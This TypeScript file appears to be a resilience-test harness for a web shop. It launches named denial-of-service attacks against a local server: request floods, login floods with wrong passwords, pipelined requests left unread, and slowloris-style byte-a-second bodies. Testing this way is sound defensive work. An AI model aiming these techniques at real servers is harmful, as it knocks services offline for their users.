/**
 * A program that attacks a shop from one address until it is killed.
 *
 * Usage: attacker.ts <name of the attack> <port of the shop> <a script of the shop>
 */
import { randomInt, randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { pictureViews, pictureWidths } from '@kayal/api-contract';
import { urlOf } from '@kayal/server-testing/src/caller.ts';

const [name = '', port = '', script = ''] = process.argv.slice(2);
/** Another address than the shoppers', so that limits of one address count the attacker alone. */
const target = { host: '127.0.0.1', port: Number(port), localAddress: '127.0.0.2' };
const agent = new Agent({ keepAlive: true, maxSockets: Infinity });

interface Call {
  readonly path: string;
  /** A body in JSON, sent by POST. */
  readonly body?: object;
  /** ms after which the attacker leaves without the answer. */
  readonly leaveAfterMs?: number;
}

async function send({ path, body, leaveAfterMs }: Call): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const sent = request({
    ...target,
    agent,
    path,
    method: body === undefined ? 'GET' : 'POST',
    headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
    ...(leaveAfterMs === undefined ? {} : { signal: AbortSignal.timeout(leaveAfterMs) }),
  });
  sent.on('response', (answer) => answer.resume().on('close', resolve));
  sent.on('error', () => resolve());
  sent.end(body === undefined ? undefined : JSON.stringify(body));
  await promise;
}

/** Sends one call after another over many connections. */
function flood(connections: number, call: () => Call): void {
  const repeat = async (): Promise<never> => {
    for (;;) {
      await send(call());
      await wait(1);
    }
  };
  for (let count = 0; count < connections; count += 1) void repeat();
}

/** Opens connections, writes to each once, reads nothing, and opens again what the shop cuts. */
function hold(connections: number, text: string, everySecond = ''): void {
  const open = (): void => {
    const socket = connect(target, () => socket.write(text)).pause();
    const timer = setInterval(() => everySecond !== '' && socket.writable && socket.write(everySecond), 1000);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(open, 100);
    });
  };
  for (let count = 0; count < connections; count += 1) setTimeout(open, count);
}

const oddNumber = (): string => String(1 + randomInt(1_000_000));
const pipelined = (path: string, count: number): string =>
  `GET ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`.repeat(count);
const oneOf = <T>(values: readonly [T, ...T[]]): T => values[randomInt(values.length)] ?? values[0];

const attacks: Readonly<Record<string, () => void>> = {
  'pages with random queries': () => flood(64, () => ({ path: `/?x=${randomUUID()}` })),
  'lists with odd numbers': () =>
    flood(64, () => ({
      path: urlOf('getProductByFilter', { query: { filter: '', limit: oddNumber(), offset: oddNumber() } }),
    })),
  'searches, each another': () =>
    flood(64, () => ({ path: urlOf('getProductByFilter', { query: { filter: randomUUID() } }) })),
  'new pictures, then hang up': () =>
    flood(150, () => ({
      path: `/uploads/${10_001 + randomInt(600)}.webp?w=${oneOf(pictureWidths)}&view=${oneOf(pictureViews)}`,
      leaveAfterMs: 200,
    })),
  'readiness probes': () => flood(300, () => ({ path: '/health/ready' })),
  'wrong passwords': () =>
    flood(64, () => ({ path: urlOf('login'), body: { email: `${randomUUID()}@kayal.example`, password: 'x' } })),
  'scripts requested, not read': () => hold(200, pipelined(script, 150)),
  'many scripts requested, not read': () => hold(2000, pipelined(script, 24)),
  'requests of a byte a second': () =>
    hold(2000, `POST ${urlOf('login')} HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 60000\r\n\r\n{`, 'x'),
};

const attack = attacks[name];
if (attack === undefined) process.send?.(Object.keys(attacks));
else attack();
